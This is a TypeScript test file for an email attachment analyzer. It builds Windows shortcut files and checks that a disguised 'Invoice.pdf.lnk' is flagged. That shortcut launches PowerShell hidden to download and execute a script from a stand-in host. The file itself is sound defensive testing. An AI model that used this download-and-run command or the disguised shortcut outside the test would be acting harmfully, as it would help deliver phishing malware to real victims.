import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeAttachments } from './index.js';
import { readShortcut } from './lnk-reader.js';
import { codesOf, mailWith } from './test-fixtures.js';

/** A shortcut with an ID list, a relative path and arguments (Unicode strings), as MS-SHLLINK lays them out. */
function buildShortcut(relativePath: string, args: string): Uint8Array {
  const header = new Uint8Array(0x4c);
  const view = new DataView(header.buffer);
  view.setUint32(0, 0x4c, true);
  header.set([0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46], 4);
  view.setUint32(0x14, 0x01 | 0x08 | 0x20 | 0x80, true);
  const idList = [6, 0, 4, 0, 0, 0, 0, 0];
  const text = (value: string): number[] => [value.length & 0xff, value.length >> 8, ...Array.from(value).flatMap((c) => [c.charCodeAt(0) & 0xff, c.charCodeAt(0) >> 8])];
  return Uint8Array.from([...header, ...idList, ...text(relativePath), ...text(args)]);
}

test('a shortcut that starts PowerShell with a download is flagged and its URL collected', () => {
  const lnk = buildShortcut('..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w hidden -c "iwr https://cdn.example-bad.test/a.ps1 | iex"');
  assert.deepEqual(readShortcut(lnk)?.arguments, '-w hidden -c "iwr https://cdn.example-bad.test/a.ps1 | iex"');
  const findings = analyzeAttachments(mailWith([{ filename: 'Invoice.pdf.lnk', content: lnk }]));
  const codes = codesOf(findings);
  assert.ok(codes.includes('attachment.shortcut_command'), codes.join());
  assert.ok(codes.includes('attachment.shortcut'));
  assert.ok(codes.includes('attachment.double_extension'));
  assert.deepEqual(findings.urls, ['https://cdn.example-bad.test/a.ps1']);
});

test('a shortcut to a document raises no command reason; a truncated one is malformed', () => {
  const lnk = buildShortcut('..\\Documents\\report.docx', '');
  assert.ok(!codesOf(analyzeAttachments(mailWith([{ filename: 'report.lnk', content: lnk }]))).includes('attachment.shortcut_command'));
  const cut = buildShortcut('powershell.exe', '-c calc').slice(0, 0x4c + 12);
  assert.ok(codesOf(analyzeAttachments(mailWith([{ filename: 'x.lnk', content: cut }]))).includes('attachment.malformed_shortcut'));
});
